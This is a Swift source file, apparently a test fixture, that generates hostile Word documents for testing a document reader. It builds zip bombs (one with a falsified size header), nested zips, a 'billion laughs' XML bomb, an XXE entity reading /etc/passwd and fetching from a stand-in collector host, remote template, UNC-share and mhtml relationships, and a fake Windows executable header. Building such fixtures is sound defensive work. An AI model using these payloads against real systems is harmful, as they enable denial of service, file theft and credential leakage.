/// Files made to harm whoever opens them. Each says what it was made from; what a reader must make of
/// it, the tests say.
package enum HostileFile {
  /// A Word file whose text unpacks to a gigabyte of blanks.
  package static var zipBomb: [UInt8] { bomb.bytes }

  /// The same, and its directory claims that it unpacks to a hundred bytes.
  package static var lyingZipBomb: [UInt8] {
    var bytes = bomb.bytes
    let name = Array("word/document.xml".utf8)
    for at in bytes.indices.dropLast(name.count + 46).reversed()
    where bytes[at..<at + 4].elementsEqual([0x50, 0x4B, 1, 2])
      && bytes[at + 46..<at + 46 + name.count].elementsEqual(name)
    {
      bytes.replaceSubrange(at + 24..<at + 28, with: [100, 0, 0, 0])
      break
    }
    return bytes
  }

  private static var bomb: ZipFile {
    var zip = ZipFile()
    zip.add("[Content_Types].xml", "<Types/>")
    zip.add("word/document.xml", zeros: 1 << 30)
    return zip
  }

  /// Ten zips of ten zips of files of a hundred megabytes: ten gigabytes in all.
  package static var zipsInZips: [UInt8] {
    var inner = ZipFile()
    for number in 0..<10 { inner.add("\(number).txt", zeros: 100 << 20) }
    let bytes = inner.bytes
    var outer = ZipFile()
    for number in 0..<10 { outer.add("\(number).zip", bytes) }
    return outer.bytes
  }

  /// "Billion laughs": ten entities, each ten times the one before.
  package static var xmlBomb: [UInt8] {
    var entities = "<!ENTITY e0 \"ha\">"
    for number in 1...10 {
      let ten = String(repeating: "&e\(number - 1);", count: 10)
      entities += "<!ENTITY e\(number) \"\(ten)\">"
    }
    var file = WordFile(p(r("&e10;")))
    file.prologue = "<!DOCTYPE d [\(entities)]>"
    return file.bytes
  }

  /// Entities that name a file and a server, and one whose name is made from what the file holds.
  package static var externalEntity: [UInt8] {
    var file = WordFile(p(r("&password; &page;")))
    file.prologue = """
      <!DOCTYPE d [<!ENTITY password SYSTEM "file:///etc/passwd">\
      <!ENTITY page SYSTEM "http://collector.example/">\
      <!ENTITY % more SYSTEM "http://collector.example/more.dtd"> %more;]>
      """
    return file.bytes
  }

  /// A form whose template, picture and header are said to lie on somebody's server.
  package static var externalRelationship: [UInt8] {
    var file = WordFile(table(row(cell("Attendance"), cell("94%"))))
    file.outside = outside
    return file.bytes
  }

  package static let outside = [
    (kind: "attachedTemplate", id: "t1", target: "http://collector.example/template.dotm"),
    (kind: "image", id: "i1", target: "file:////collector.example/share/picture.png"),
    (kind: "header", id: "h1", target: "http://collector.example/header.xml"),
    (kind: "oleObject", id: "o1", target: "mhtml:http://collector.example/page.html"),
  ]

  /// A Word file of a hundred thousand parts beside its text.
  package static var manyParts: [UInt8] {
    var file = WordFile(p(r("Attendance")))
    file.media = (0..<100_000).map { ("m\($0).xml", []) }
    return file.bytes
  }

  /// A program that calls itself a form: the head of an executable file for Windows.
  package static var program: [UInt8] {
    let stub = "This program cannot be run in DOS mode.\r\r\n$"
    return Array("MZ\u{0}\u{3}".utf8) + [UInt8](repeating: 0, count: 60) + Array(stub.utf8)
      + Array("PE\u{0}\u{0}".utf8) + [UInt8](repeating: 0x90, count: 40_000)
  }
}
